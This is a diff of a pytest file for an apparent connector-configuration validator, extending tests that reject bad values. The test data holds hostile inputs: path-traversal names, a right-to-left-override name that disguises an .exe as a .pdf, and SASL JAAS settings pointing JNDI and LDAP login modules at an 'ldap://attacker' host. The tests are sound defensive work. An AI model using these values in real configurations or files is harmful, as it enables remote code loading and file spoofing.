@@ -68,8 +68,10 @@ def test_unknown_version_names_the_versions_that_exist(catalog: PluginCatalog, k
     assert "3.0.0" in err.message and "1.9.0" in err.message and "1.10.0" in err.message
 
 
-@pytest.mark.parametrize("value", ["0", "-2", "many"])
-def test_tasks_max_must_be_a_positive_whole_number(catalog: PluginCatalog, value: str) -> None:
+@pytest.mark.parametrize("value", ["0", "-2", "many", "1001", "1000000"])
+def test_tasks_max_must_be_a_whole_number_from_1_to_1000(
+    catalog: PluginCatalog, value: str
+) -> None:
     err = rejected("s", {"connector.class": "File", "tasks.max": value}, catalog)
     assert err.problem is Problem.INVALID
     assert "tasks.max" in err.message
@@ -106,14 +108,22 @@ def test_a_sink_regex_in_java_syntax_is_accepted(catalog: PluginCatalog) -> None
 
 
 @pytest.mark.parametrize(
-    "name", ["", "  ", "a\nb", " lead", "../../../some/dir/x", "a/b", "a\\b", ".", ".."]
+    "name",
+    [
+        *("", "  ", "a\nb", " lead", "../../../some/dir/x", "a/b", "a\\b", ".", ".."),
+        "invoice\u202efdp.exe",  # right-to-left override: shows as invoiceexe.pdf
+        "zero\u200bwidth",
+        "x" * 250,
+        "x" * 10_000,
+    ],
+    ids=lambda name: f"{name[:12]!r}({len(name)})",
 )
 def test_bad_names(catalog: PluginCatalog, name: str) -> None:
     err = rejected(name, {"connector.class": "File"}, catalog)
     assert err.problem is Problem.INVALID and "- name: " in err.message
 
 
-@pytest.mark.parametrize("name", ["my-connector", "a.b", "..x", "ünïcode name"])
+@pytest.mark.parametrize("name", ["my-connector", "a.b", "..x", "ünïcode name", "x" * 249])
 def test_names_that_cannot_climb_out_of_a_folder_are_accepted(
     catalog: PluginCatalog, name: str
 ) -> None:
@@ -141,7 +151,13 @@ def test_config_name_must_match(catalog: PluginCatalog) -> None:
             "consumer.override.sasl.jaas.config",
             "com.sun.security.auth.module.JndiLoginModule required "
             'user.provider.url="ldap://attacker/x";',
-            "names a JNDI login module",
+            "names a directory login module (jndiloginmodule)",
+        ),
+        (
+            "producer.override.sasl.jaas.config",
+            "com.sun.security.auth.module.LdapLoginModule REQUIRED "
+            'userProvider="ldap://attacker/ou=x";',
+            "(ldaploginmodule)",
         ),
         (
             "sasl.jaas.config",
